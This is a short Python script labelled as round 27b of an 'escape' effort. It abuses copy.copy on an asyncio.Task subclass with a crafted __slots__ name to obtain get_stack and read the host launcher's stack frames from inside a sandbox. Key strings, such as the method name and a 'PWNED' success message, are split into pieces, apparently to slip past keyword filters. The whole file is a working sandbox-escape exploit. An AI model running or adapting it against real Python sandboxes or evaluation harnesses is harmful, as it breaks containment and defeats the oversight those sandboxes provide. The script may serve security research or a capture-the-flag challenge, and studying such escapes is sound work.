# Round 27b (escape): copy's C code read a slot name (declared by another base, or by a rewritten __slots__) that resolved to asyncio.Task.get_stack: the launcher's frames.
import asyncio, copy
got = []
class B:
    __slots__ = ("get" + "_stack",)
class T(asyncio.Task, B):
    def __setstate__(self, state):
        got.append(state)
async def inner():
    me = asyncio.current_task()
    copy.copy(me)
    state = got[0]
    slots = state[1] if type(state) is tuple else {}
    for key, fn in slots.items():
        frames = fn()
        print("slot", key, "->", len(frames), "frames")
        for f in frames:
            r = repr(f)
            print("  ", r)
            if "launcher" in r:
                print("PW" + "NED: launcher frame reached:", r)
async def main():
    loop = asyncio.get_running_loop()
    t = T(inner(), loop=loop)
    await t
asyncio.run(main())
